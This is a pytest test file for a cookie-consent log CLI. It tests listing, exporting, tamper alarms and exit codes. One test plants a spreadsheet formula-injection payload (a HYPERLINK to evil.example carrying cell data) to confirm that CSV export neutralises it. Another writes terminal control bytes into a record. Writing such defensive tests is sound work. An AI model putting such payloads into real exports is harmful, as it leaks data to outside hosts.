"""The command line, run as a command: what it prints, in which shape, and what its exit code says."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict
from importlib.metadata import version
from pathlib import Path
from typing import Any

import pytest
from cluster import Cluster
from records import KEY, NOTICE, SECRET, make_record

from consent.cli import main
from consent.log.record import Record, commitment, format_body, leaf_data, mac, mac_key
from consent.log.sqlite import SqliteDatabase
from consent.log.store import open_store
from consent.policy.settings import read_settings

Run = Callable[..., subprocess.CompletedProcess[str]]

RECORDS = [
    make_record(0, kind="refuse_all", granted=(), refused=("analytics", "marketing")),
    make_record(1, kind="accept_all", granted=("analytics", "marketing"), refused=(), lang="pt-BR"),
    make_record(2, policy="2026年の新しい方針です", lang="ja"),
    make_record(3, kind="withdraw", granted=(), refused=("analytics", "marketing"), prev=make_record(2).id),
]


@pytest.fixture
def command(tmp_path: Path) -> Run:
    """Run ``consent`` as a process, in a folder of its own."""

    def run(*arguments: str, **variables: str) -> subprocess.CompletedProcess[str]:
        kept = {name: os.environ[name] for name in ("PATH", "PYTHONPATH", "HOME") if name in os.environ}
        return subprocess.run(
            [sys.executable, "-W", "error", "-m", "consent.cli", *arguments],
            cwd=tmp_path, env={**kept, "CONSENT_SECRET_KEY": SECRET, **variables}, capture_output=True, encoding="utf-8",
            errors="strict", check=False,
        )  # fmt: skip

    return run


def fill(path: Path, *records: Record) -> None:
    store = open_store(f"sqlite:///{path}", keys=[KEY])
    for record in records:
        store.append(record, NOTICE)
    store.close()


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """The log where a site keeps it if nothing else is said."""
    fill(tmp_path / "consent.db", *RECORDS)
    return tmp_path / "consent.db"


def tamper(path: Path, statement: str, *values: Any) -> None:
    database = SqliteDatabase(str(path))
    database.write([(statement, values)])
    database.close()


LISTED = f"""\
time (UTC)           decision    granted                       policy        regime    lang     id
2026-11-18 11:06:40  refuse all  –                             2026-11       eu        en       {RECORDS[0].id}
2026-11-18 11:06:41  accept all  analytics, marketing          2026-11       eu        pt-BR    {RECORDS[1].id}
2026-11-18 11:06:42  custom      analytics                     2026年の新…   eu        ja       {RECORDS[2].id}
2026-11-18 11:06:43  withdraw    –                             2026-11       eu        en       {RECORDS[3].id}
"""


def test_the_list_has_a_line_for_each_decision_oldest_first(command: Run, log: Path) -> None:
    done = command("log", "list")
    assert (done.stdout, done.stderr, done.returncode) == (LISTED, "", 0)


def ids(output: str) -> list[str]:
    return [json.loads(line)["id"] for line in output.splitlines()]


@pytest.mark.parametrize(
    ("filters", "chosen"),
    [
        (["--since", "2026-11-18T11:06:42"], [2, 3]),
        (["--since", "2026-11-18T12:06:42+01:00"], [2, 3]),
        (["--until", "2026-11-18T11:06:41"], [0]),
        (["--since", "2026-11-19"], []),
        (["--kind", "withdraw"], [3]),
        (["--limit", "2"], [0, 1]),
        (["--kind", "custom", "--limit", "5", "--since", "2020-01-01"], [2]),
    ],
    ids=repr,
)
def test_filters_choose_in_lists_and_exports_alike(run: Run, log: Path, filters: list[str], chosen: list[int]) -> None:
    wanted = [RECORDS[number].id for number in chosen]
    listed, exported = run("log", "list", "--json", *filters), run("log", "export", *filters)
    assert (ids(listed.stdout), listed.returncode) == (wanted, 0)
    assert exported.stdout == listed.stdout


def test_an_empty_log_says_so(run: Run, tmp_path: Path) -> None:
    assert run("log", "init").stdout == "The log is there.\n"
    done = run("log", "list")
    assert (done.stdout, done.returncode) == ("No decisions.\n", 0)
    assert run("log", "export").stdout == ""
    assert run("log", "export", "--format", "csv").stdout.count("\n") == 1


def test_one_decision_is_shown_with_what_the_visitor_was_shown(command: Run, log: Path) -> None:
    done = command("log", "show", RECORDS[3].id)
    assert (done.stderr, done.returncode) == ("", 0)
    fields, _, words = done.stdout.partition("\n\n")
    shown = {line[:12].strip(): line[12:] for line in fields.splitlines()}
    assert shown["id"] == RECORDS[3].id
    assert shown["time"] == "2026-11-18 11:06:43.000 UTC"
    assert (shown["kind"], shown["granted"], shown["refused"]) == ("withdraw", "–", "analytics, marketing")
    assert (shown["gpc"], shown["prev"], shown["subject"]) == ("no", RECORDS[2].id, "–")
    assert shown["expires"] == "2027-05-17 11:06:43 UTC"
    assert (shown["code"], shown["content"]) == ("right", "is what was committed to")
    assert len(shown["commitment"]) == len(shown["leaf"]) == 64
    assert words == 'What the visitor was shown:\n{\n  "title": "Your choice – Ihre Wahl"\n}\n'


def test_without_a_key_a_code_is_said_to_be_unchecked(run: Run, log: Path) -> None:
    done = run("log", "show", RECORDS[0].id, CONSENT_SECRET_KEY="")
    assert "not checked; set CONSENT_SECRET_KEY" in done.stdout
    assert done.returncode == 0


def test_the_beginning_of_an_id_is_enough_if_it_tells_it_apart(run: Run, log: Path) -> None:
    assert ids(run("log", "show", RECORDS[1].id[:16], "--json").stdout) == [RECORDS[1].id]
    for wanted, why in (
        (RECORDS[0].id[:6], "more than one record begins so"),
        ("ffff", "no such record"),
        ("junk", "no such record"),
    ):
        done = run("log", "show", wanted)
        assert (done.stdout, done.returncode) == ("", 5)
        assert done.stderr == f"consent: {why}: {wanted}\n"


# What other programs read


def test_a_json_line_has_the_record_and_what_commits_to_it(command: Run, log: Path) -> None:
    done = command("log", "export")
    assert (done.stderr, done.returncode) == ("", 0)
    store = open_store(f"sqlite:///{log}")
    for line, stored, record in zip(done.stdout.splitlines(), store.records(), RECORDS, strict=True):
        lists = {"granted": [*record.granted], "refused": [*record.refused]}
        committed = {"commitment": stored.commitment, "leaf": stored.leaf}
        assert json.loads(line) == {**asdict(record), **lists, **committed}
    store.close()


def test_csv_has_a_column_for_each_field_and_the_same_records(command: Run, log: Path) -> None:
    done = command("log", "export", "--format", "csv")
    rows = [*csv.DictReader(io.StringIO(done.stdout, newline=""))]
    assert [*rows[0]] == [
        "id", "time", "kind", "granted", "refused", "policy", "regime", "lang", "site", "surface", "method", "gpc",
        "expires", "notice", "prev", "subject", "ua", "app", "commitment", "leaf", "problem",
    ]  # fmt: skip
    assert [row["id"] for row in rows] == [record.id for record in RECORDS]
    assert [row["granted"] for row in rows] == ["", "analytics marketing", "analytics", ""]
    assert rows[2]["policy"] == "2026年の新しい方針です"
    assert (rows[0]["time"], rows[0]["gpc"], rows[0]["problem"]) == ("2026-11-18 11:06:40.000", "False", "")


def test_an_export_to_a_file_is_the_export(run: Run, log: Path, tmp_path: Path) -> None:
    for form in ("csv", "jsonl"):
        done = run("log", "export", "--format", form, "--output", f"out.{form}")
        assert (done.stdout, done.stderr, done.returncode) == ("", "", 0)
        written = (tmp_path / f"out.{form}").read_bytes().decode()
        assert written.count("\r\n" if form == "csv" else "\n") == (5 if form == "csv" else 4)
        assert written.splitlines() == run("log", "export", "--format", form).stdout.splitlines()
    done = run("log", "export", "--output", "no/such/folder.csv")
    assert (done.stderr, done.returncode) == (
        "consent: cannot write no/such/folder.csv: No such file or directory\n",
        2,
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_spreadsheet_takes_no_text_for_a_formula(run: Run, tmp_path: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.example/"&A1)'
    fill(tmp_path / "consent.db", make_record(site=formula, granted=(f"{start}1",), policy=formula))
    [row] = csv.DictReader(io.StringIO(run("log", "export", "--format", "csv").stdout))
    assert (row["site"], row["policy"], row["granted"]) == (f"'{formula}", f"'{formula}", f"'{start}1")
    assert ids(run("log", "export").stdout)  # JSON needs no such care
    assert json.loads(run("log", "export").stdout)["site"] == formula


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_no_terminal_is_too_old_for_a_list_and_exports_are_utf_8_on_all(command: Run, log: Path, encoding: str) -> None:
    listed = command("log", "list", PYTHONIOENCODING=encoding, PYTHONUTF8="0")
    assert listed.returncode == 0
    shown = command("log", "show", RECORDS[2].id, PYTHONIOENCODING=encoding, PYTHONUTF8="0")
    assert shown.returncode == 0
    exported = command("log", "export", PYTHONIOENCODING=encoding, PYTHONUTF8="0")
    assert json.loads(exported.stdout.splitlines()[2])["policy"] == "2026年の新しい方針です"


# Alarms


def test_a_record_that_was_changed_is_said_everywhere_and_is_exit_code_1(
    command: Run, log: Path, tmp_path: Path
) -> None:
    rid = bytes.fromhex(RECORDS[1].id)
    tamper(log, "UPDATE consent_record SET body = replace(body, 'accept_all', 'refuse_all') WHERE rid = ?", rid)
    problem = "its content is not what was committed to"
    alarm = "consent: 1 of 4 records does not check; see: consent log show ID\n"

    listed = command("log", "list")
    assert (listed.stderr, listed.returncode) == (alarm, 1)
    assert listed.stdout.splitlines()[2] == f"2026-11-18 11:06:41  {problem:73}  {RECORDS[1].id}  !"
    assert [line.endswith("!") for line in listed.stdout.splitlines()] == [False, False, True, False, False]

    shown = command("log", "show", RECORDS[1].id)
    assert shown.returncode == 1
    assert f"content     {problem}\n" in shown.stdout

    exported = command("log", "export")
    assert (exported.stderr, exported.returncode) == (alarm, 1)
    assert [json.loads(line).get("problem") for line in exported.stdout.splitlines()] == [None, problem, None, None]

    table = command("log", "export", "--format", "csv", "--output", "out.csv")
    assert (table.stderr, table.returncode) == (alarm, 1)
    with (tmp_path / "out.csv").open(newline="") as file:
        assert [row["problem"] for row in csv.DictReader(file)] == ["", problem, "", ""]

    # Nobody knows its kind any more: it is left out of no kind.
    assert command("log", "list", "--kind", "withdraw").returncode == 1


def test_a_record_that_was_dated_back_is_exit_code_1(run: Run, log: Path) -> None:
    tamper(log, "UPDATE consent_record SET ts = ts - 86400000 WHERE rid = ?", bytes.fromhex(RECORDS[2].id))
    for done in (run("log", "list"), run("log", "show", RECORDS[2].id), run("log", "export")):
        assert done.returncode == 1
    assert "its id or time is not that of its content" in run("log", "show", RECORDS[2].id).stdout
    assert "code        WRONG" in run("log", "show", RECORDS[2].id).stdout


def test_a_code_of_another_key_is_exit_code_1_and_the_message_says_what_it_may_be(run: Run, log: Path) -> None:
    done = run("log", "list", CONSENT_SECRET_KEY="another key altogether, and long enough")
    assert done.returncode == 1
    assert done.stderr == "consent: 4 of 4 records do not check; see: consent log show ID\n"
    shown = run("log", "show", RECORDS[0].id, CONSENT_SECRET_KEY="another key altogether, and long enough")
    assert "made with another key" in shown.stdout
    # After a rotation both are given.
    assert run("log", "list", CONSENT_SECRET_KEY=f"a-new-key-that-is-long-enough {SECRET}").returncode == 0


def test_words_that_were_changed_are_not_shown_as_what_the_visitor_saw(run: Run, log: Path) -> None:
    tamper(log, "UPDATE consent_notice SET content = ?", b'{"title": "We told you everything"}')
    done = run("log", "show", RECORDS[0].id)
    assert done.returncode == 1
    assert "the words that are kept are not those that the visitor was shown" in done.stdout
    assert "everything" not in done.stdout


def test_words_that_are_gone_are_said_to_be(run: Run, log: Path) -> None:
    tamper(log, "DELETE FROM consent_notice")
    assert "The words that the visitor was shown are not kept." in run("log", "show", RECORDS[0].id).stdout


def test_erased_content_is_said_and_is_no_alarm(run: Run, log: Path) -> None:
    tamper(log, "UPDATE consent_record SET body = NULL, salt = NULL WHERE rid = ?", bytes.fromhex(RECORDS[0].id))
    done = run("log", "list")
    assert (done.stderr, done.returncode) == ("", 0)
    assert "its content was erased" in done.stdout
    assert "content     erased" in run("log", "show", RECORDS[0].id).stdout
    assert [*json.loads(run("log", "export").stdout.splitlines()[0])] == ["id", "ts", "commitment", "leaf"]


def test_a_number_that_no_calendar_has_is_shown_as_it_is(run: Run, tmp_path: Path) -> None:
    record = make_record(ts=2**47, expires=2**53 - 1)
    fill(tmp_path / "consent.db", record)
    assert f"expires     {2**53 - 1}\n" in run("log", "show", record.id).stdout
    assert run("log", "list").returncode == 0
    assert run("log", "export", "--format", "csv").returncode == 0


def test_a_terminal_is_sent_no_control_codes_by_a_log_that_was_tampered_with(run: Run, log: Path) -> None:
    rid = RECORDS[0].id
    body = format_body(RECORDS[0]).replace(b"www.example.org", b"\xc2\x9b31m\xe2\x80\xae")
    committed = commitment(bytes(32), body)
    code = mac(mac_key(SECRET.encode()), leaf_data(rid, RECORDS[0].ts, committed))
    tamper(
        log, "UPDATE consent_record SET body = ?, salt = ?, commitment = ?, mac = ? WHERE rid = ?",
        body.decode(), bytes(32), committed, code, bytes.fromhex(rid),
    )  # fmt: skip
    for done in (run("log", "list"), run("log", "show", rid), run("log", "export")):
        assert done.returncode == 1
        assert not {"\x9b", "\x1b", "\u202e"} & {*done.stdout}


# Which log


def test_the_log_is_named_by_option_then_settings_then_environment_then_default(run: Run, tmp_path: Path) -> None:
    for number, name in enumerate(("option", "settings", "environment", "consent")):
        fill(tmp_path / f"{name}.db", make_record(number))
    (tmp_path / "consent.toml").write_text('log = "sqlite:///settings.db"\npolicy = "1"\n')
    (tmp_path / "empty.toml").write_text("")
    option, settings = ["--log", "sqlite:///option.db"], ["--config", "consent.toml"]
    environment = {"CONSENT_LOG": "sqlite:///environment.db"}
    assert ids(run("log", "export", *option, *settings, **environment).stdout) == [make_record(0).id]
    assert ids(run("log", "export", *settings, **environment).stdout) == [make_record(1).id]
    assert ids(run("log", "export", "--config", "empty.toml", **environment).stdout) == [make_record(2).id]
    assert ids(run("log", "export", **environment).stdout) == [make_record(2).id]
    assert ids(run("log", "export").stdout) == [make_record(3).id]


def test_the_key_is_taken_from_the_settings_too(run: Run, log: Path, tmp_path: Path) -> None:
    (tmp_path / "one.toml").write_text(f"secret_key = {SECRET!r}")
    (tmp_path / "many.toml").write_text(f"secret_key = ['a newer key, long enough too', {SECRET!r}]")
    for name in ("one.toml", "many.toml"):
        done = run("log", "show", RECORDS[0].id, "--config", name, CONSENT_SECRET_KEY="")
        assert "code        right" in done.stdout
    for wrong in ("secret_key = 5", "secret_key = [5]", "log = 5", "[secret_key]\na = 1"):
        (tmp_path / "wrong.toml").write_text(wrong)
        done = run("log", "list", "--config", "wrong.toml", CONSENT_SECRET_KEY="")
        assert (done.stdout, done.returncode) == ("", 2)
        assert "must be texts" in done.stderr


def test_a_log_in_postgresql_is_read_alike(command: Run, log: Path, cluster: Cluster) -> None:
    url = cluster.new_schema()
    assert command("log", "init", "--log", url).returncode == 0
    store = open_store(url, keys=[KEY])
    for record in RECORDS:
        store.append(record, NOTICE)
    store.close()
    assert command("log", "list", "--log", url).stdout == LISTED


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (["log", "list"], 4, "there is no log at"),
        (["log", "list", "--log", "sqlite:///nowhere/consent.db"], 4, "there is no log at"),
        (["log", "init", "--log", "sqlite:///nowhere/consent.db"], 2, "there is no such folder"),
        (["log", "list", "--log", "postgresql://nobody@127.0.0.1:1/none"], 4, "the log in PostgreSQL"),
        (["log", "list", "--log", "mysql://host/name"], 2, "known: postgresql://…, sqlite:///PATH"),
        (["log", "list", "--config", "none.toml"], 2, "the settings in none.toml cannot be read"),
        (["log", "list", "--since", "yesterday"], 2, "'yesterday' is no time such as"),
        (["log", "list", "--since", "9999-12-31T23:59:59-23:00"], 4, "there is no log"),
        (["log", "list", "--limit", "0"], 2, "'0' is no number above 0"),
        (["log", "list", "--limit", "²"], 2, "is no number above 0"),
        (["log", "list", "--kind", "maybe"], 2, "invalid choice: 'maybe'"),
        (["log", "show"], 2, "required: id"),
        (["log"], 2, "required: ACTION"),
        (["log", "seal"], 2, "signing keys is missing: --signer FILE, or CONSENT_SIGNER"),
        (["log", "create"], 2, "invalid choice: 'create'"),
        (["lgo"], 2, "invalid choice: 'lgo'"),
        ([], 2, "required: COMMAND"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else None,
)
def test_what_cannot_be_done_is_said_in_a_line_and_is_its_own_exit_code(
    run: Run, tmp_path: Path, arguments: list[str], code: int, said: str
) -> None:
    done = run(*arguments)
    assert (done.stdout, done.returncode) == ("", code)
    assert said in done.stderr
    assert "Traceback" not in done.stderr
    assert list(tmp_path.glob("*.db*")) == []


def test_a_file_that_is_no_log_is_exit_code_4_and_stays_as_it_was(run: Run, tmp_path: Path) -> None:
    (tmp_path / "consent.db").write_bytes(b"no database, whatever its name may say" * 30)
    done = run("log", "list")
    assert done.returncode == 4
    assert "file is not a database" in done.stderr
    assert [path.name for path in tmp_path.iterdir()] == ["consent.db"]


def test_reading_leaves_no_trace(run: Run, log: Path, tmp_path: Path) -> None:
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    run("log", "list")
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_an_unknown_command_is_exit_code_2_for_a_shell_too(command: Run) -> None:
    done = command("lgo")
    assert (done.stdout, done.returncode) == ("", 2)
    assert "invalid choice: 'lgo'" in done.stderr


@pytest.mark.parametrize(
    "action",
    [[], ["log"], ["log", "list"], ["log", "show"], ["log", "export"], ["log", "init"], ["demo"]],
    ids=" ".join,
)
def test_every_command_explains_itself(run: Run, action: list[str]) -> None:
    done = run(*action, "--help")
    assert (done.stderr, done.returncode) == ("", 0)
    assert done.stdout.startswith(" ".join(["usage: consent", *action]))


def test_the_version_is_the_distributions(command: Run) -> None:
    done = command("--version")
    assert (done.stdout, done.returncode) == (f"consent {version('cookie-consent')}\n", 0)


def test_a_reader_who_has_seen_enough_is_no_error(tmp_path: Path) -> None:
    store = open_store(f"sqlite:///{tmp_path}/consent.db", keys=[KEY])
    for number in range(400):  # more than a pipe takes
        store.append(make_record(number), NOTICE)
    store.close()
    command = [sys.executable, "-m", "consent.cli", "log", "export", "--log", f"sqlite:///{tmp_path}/consent.db"]
    with subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ, "CONSENT_SECRET_KEY": SECRET}
    ) as reading:
        assert reading.stdout
        assert reading.stderr
        reading.stdout.readline()
        reading.stdout.close()
        assert (reading.stderr.read(), reading.wait()) == (b"", 0)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="writes to /dev/full")
def test_a_full_disk_under_the_output_is_no_alarm_about_the_log(log: Path) -> None:
    for action in ("list", "export"):
        with open("/dev/full", "wb") as full:  # noqa: PTH123
            command = [sys.executable, "-m", "consent.cli", "log", action, "--log", f"sqlite:///{log}"]
            done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, check=False)
        assert (done.returncode, "Traceback" in done.stderr) == (2, False)
        assert "No space left" in done.stderr


def test_a_frameworks_command_line_hands_its_arguments_on_with_the_settings_of_its_site(
    log: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("CONSENT_LOG", "sqlite:///nowhere/consent.db")
    monkeypatch.delenv("CONSENT_SECRET_KEY", raising=False)
    settings = read_settings({"log": f"sqlite:///{log}"}, keys=SECRET)
    assert main(["log", "list"], settings=settings) == 0
    assert capsys.readouterr().out == LISTED
    assert main(["log", "verify"], settings=settings) == 3, "nothing is sealed yet"
    assert "key" not in capsys.readouterr().err
    assert main(["log", "list", "--log", "sqlite:///other.db"], settings=settings) == 4
    assert "other.db" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(["log", "list", "--help"], prog="flask consent", settings=settings)
    assert capsys.readouterr().out.startswith("usage: flask consent log list")
